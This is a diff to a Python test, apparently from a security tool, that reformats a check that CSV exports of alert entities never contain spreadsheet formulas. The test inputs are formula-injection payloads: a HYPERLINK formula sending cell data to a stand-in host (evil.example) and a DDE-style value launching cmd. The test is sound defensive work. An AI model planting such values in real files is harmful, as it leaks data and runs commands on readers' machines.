@@ -120,8 +120,12 @@ def test_overlong_values_are_no_indicators() -> None:
 def test_the_csv_export_never_holds_a_formula() -> None:
     """An alert's account or host may be anything: exported, a cell starting with = + - @ would
     run as a formula when an analyst opens the file in a spreadsheet."""
-    found = from_entities({"accounts": ['=HYPERLINK("http://evil.example/?x="&A1,"x")'],
-                               "hosts": ["@sum(1+1)*cmd|' /c calc'!a0"]})  # fmt: skip
+    found = from_entities(
+        {
+            "accounts": ['=HYPERLINK("http://evil.example/?x="&A1,"x")'],
+            "hosts": ["@sum(1+1)*cmd|' /c calc'!a0"],
+        }
+    )
     at = datetime(2026, 1, 5, tzinfo=UTC)
     items = [export.Shared(f.type, f.value, at, at, "=alert 1 entities") for f in found]
     rows = list(csv.reader(io.StringIO(export.csv_text(items))))[1:]
